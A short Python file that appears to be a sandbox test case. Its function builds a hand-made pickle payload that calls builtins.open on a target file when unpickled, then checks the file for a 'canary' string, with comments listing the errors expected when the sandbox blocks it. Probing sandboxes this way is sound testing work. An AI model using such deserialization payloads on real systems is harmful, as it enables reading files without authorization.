"""Executes code hidden in a pickle: it runs behind the same walls."""

# walls: FileNotFoundError PermissionError
# none: pwned

import pickle


def attack(x, target):
    return pickle.loads(b"cbuiltins\nopen\n(S'" + target["file"].encode() + b"'\ntR.").read()[:6].replace("canary", "pwned")
